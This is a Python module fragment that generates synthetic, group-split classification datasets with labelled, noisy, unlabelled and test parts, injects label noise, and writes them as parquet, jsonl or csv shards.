def _make_parts(artifact: str, rng: random.Random, seed: int, scale: float) -> dict[str, pa.Table]:
    sizes = {part: max(MIN_ROWS, round(layout.rows * scale)) for part, layout in LAYOUT[artifact].items()}
    positive = CLASSES[artifact][1]
    pool = [ROW_MAKERS[artifact](rng, positive if rng.random() < POSITIVE_SHARE[artifact] else "benign")
            for _ in range(sum(sizes.values()))]

    # Test takes whole groups; analysts never labelled some further groups (seen only in noisy/unlabelled).
    test_share = sizes["test"] / len(pool)
    in_test = _groups_in_split(pool, test_share, seed)
    rest = [row for row in pool if row[GROUP] not in in_test]
    novel = _groups_in_split(rest, NOVEL_SHARE, seed + 1)
    known = {label: [r for r in rest if r[GROUP] not in novel and r[LABEL] == label] for label in CLASSES[artifact]}
    # Analysts label detections more often than their base rate: the labelled part is enriched in positives.
    n_positive = round(sizes["labelled"] * LABELLED_POSITIVE_SHARE)
    n_benign = sizes["labelled"] - n_positive
    labelled = known[positive][:n_positive] + known["benign"][:n_benign]
    others = known[positive][n_positive:] + known["benign"][n_benign:] + [r for r in rest if r[GROUP] in novel]
    rng.shuffle(labelled)
    rng.shuffle(others)

    tables = {
        "labelled": _table(artifact, "labelled", labelled),
        "noisy": _table(artifact, "noisy", others[:sizes["noisy"]]),
        "unlabelled": _table(artifact, "unlabelled", others[sizes["noisy"]:]),
        "test": _table(artifact, "test", [row for row in pool if row[GROUP] in in_test]),
    }
    tables["noisy"] = inject_label_noise(tables["noisy"], FLIP_RATES[artifact], CLASSES[artifact], seed)
    unlabelled = tables["unlabelled"]
    tables["unlabelled"] = unlabelled.set_column(unlabelled.schema.get_field_index(LABEL), LABEL,
                                                 pa.nulls(unlabelled.num_rows, pa.string()))
    return tables


def _groups_in_split(rows: list[dict[str, str]], share: float, seed: int) -> set[str]:
    assignment = assign_splits([r[GROUP] for r in rows], [r[LABEL] for r in rows], 0.0, share, seed)
    return {group for group, split in assignment.items() if split == TEST}


def _table(artifact: str, part: str, rows: list[dict[str, str]]) -> pa.Table:
    columns = {ID: [f"{artifact}-{part}-{i:05d}" for i in range(len(rows))],
               TEXT_COLUMN[artifact]: [r["text"] for r in rows]}
    for name in (LABEL, SOURCE, GROUP, "platform", "family"):
        if rows and name in rows[0]:
            columns[name] = [r[name] for r in rows]
    return pa.table({name: pa.array(values, pa.string()) for name, values in columns.items()})


def _write_shards(table: pa.Table, directory: Path, fmt: str, shards: int) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    count = max(1, min(shards, table.num_rows))
    bounds = [round(i * table.num_rows / count) for i in range(count + 1)]
    paths = []
    for k in range(count):
        path = directory / f"part-{k:02d}.{fmt}"
        _write_shard(table.slice(bounds[k], bounds[k + 1] - bounds[k]), path, fmt)
        paths.append(path)
    return paths


def _write_shard(table: pa.Table, path: Path, fmt: str) -> None:
    if fmt == "parquet":
        pq.write_table(table, path)
        return
    with _open_text(path, compressed=fmt.endswith(".gz")) as f:
        if fmt.startswith("jsonl"):
            f.writelines(json.dumps(row, ensure_ascii=False) + "\n" for row in table.to_pylist())
        else:
            writer = csv.DictWriter(f, fieldnames=table.column_names)
            writer.writeheader()
            writer.writerows(table.to_pylist())


def _open_text(path: Path, compressed: bool) -> IO[str]:
    if compressed:  # mtime=0: the same rows give the same bytes
        return io.TextIOWrapper(gzip.GzipFile(path, "wb", mtime=0), encoding="utf-8", newline="")
    return open(path, "w", encoding="utf-8", newline="")

